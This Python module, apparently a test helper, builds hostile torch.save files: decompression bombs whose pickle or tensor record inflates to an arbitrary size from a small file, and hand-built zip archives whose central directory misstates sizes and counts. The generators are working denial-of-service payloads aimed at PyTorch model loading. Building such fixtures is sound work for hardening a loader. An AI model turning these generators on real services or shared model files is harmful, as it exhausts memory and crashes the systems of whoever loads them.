"""Hostile torch.save files, small on disk: a DEFLATEd `data.pkl` that inflates to a pickle of
n bytes (a str of NULs: valid, and what torch.load would build), written in ~n/1MiB steps
without ever holding n bytes (one compressed MiB of zeros, repeated after full flushes), and
zip archives written by hand so that their central directory can lie.
"""

import io
import struct
import zlib
import zipfile

_CHUNK = 2**20


def deflated_pickle(n: int) -> tuple:
    """(raw DEFLATE stream, crc32, size) of a pickle of a str of n NULs."""
    return deflated(b"\x80\x02X" + struct.pack("<I", n), n, b".")


def deflated(prefix: bytes, n: int, suffix: bytes) -> tuple:
    """(raw DEFLATE stream, crc32, size) of prefix + n NULs + suffix."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)]
    block = c.compress(bytes(_CHUNK)) + c.flush(zlib.Z_FULL_FLUSH)  # the same bytes after every full flush
    q, r = divmod(n, _CHUNK)
    out.append(block * q)
    out.append(c.compress(bytes(r) + suffix) + c.flush())
    crc, zeros = zlib.crc32(prefix), bytes(_CHUNK)
    for _ in range(q):
        crc = zlib.crc32(zeros, crc)
    return b"".join(out), zlib.crc32(bytes(r) + suffix, crc), len(prefix) + n + len(suffix)


def zip_bytes(entries, count=None) -> bytes:
    """A zip of (name, method, data, crc, declared size) entries, as given (no checks);
    `count`: the entry count its end record claims."""
    body, central = bytearray(), bytearray()
    for name, method, data, crc, size in entries:
        offset, raw_name = len(body), name.encode()
        body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(data), size,
                            len(raw_name), 0) + raw_name + data
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, len(data), size,
                               len(raw_name), 0, 0, 0, 0, 0, offset) + raw_name
    n = len(entries) if count is None else count
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, min(n, 0xFFFF), min(n, 0xFFFF), len(central), len(body), 0)
    return bytes(body + central + end)


def torch_entries(obj=None) -> list:
    """The entries of a real torch.save of `obj`, stored, as zip_bytes takes them."""
    import torch

    buf = io.BytesIO()
    torch.save({"a": torch.zeros(2)} if obj is None else obj, buf)
    z = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    return [(i.filename, zipfile.ZIP_STORED, z.read(i), i.CRC, i.file_size) for i in z.infolist()]


def bomb(n: int, declared=None, method=zipfile.ZIP_DEFLATED) -> bytes:
    """A torch.save file whose data.pkl inflates to n bytes; `declared`: the size its central
    directory claims instead."""
    entries = []
    for name, m, data, crc, size in torch_entries():
        if name.endswith("/data.pkl"):
            data, crc, size = deflated_pickle(n)
            entries.append((name, method, data, crc, size if declared is None else declared))
        else:
            entries.append((name, m, data, crc, size))
    return zip_bytes(entries)


def tensor_bomb(n: int) -> bytes:
    """A torch.save file of a uint8 tensor of n elements whose record is DEFLATEd: its pickle
    and its record agree (torch compares them), so torch.load would allocate and inflate n bytes.
    The pickle is torch's own for 10 elements, its two 10s (storage and size) made n."""
    import torch

    entries = []
    for name, method, data, crc, size in torch_entries(torch.zeros(10, dtype=torch.uint8)):
        if name.endswith("/data.pkl"):
            assert data.count(b"K\n") == 2
            data = data.replace(b"K\n", b"J" + struct.pack("<i", n))
            crc, size = zlib.crc32(data), len(data)
        elif name.endswith("/data/0"):
            data, crc, size = deflated(b"", n, b"")
            method = zipfile.ZIP_DEFLATED
        entries.append((name, method, data, crc, size))
    return zip_bytes(entries)
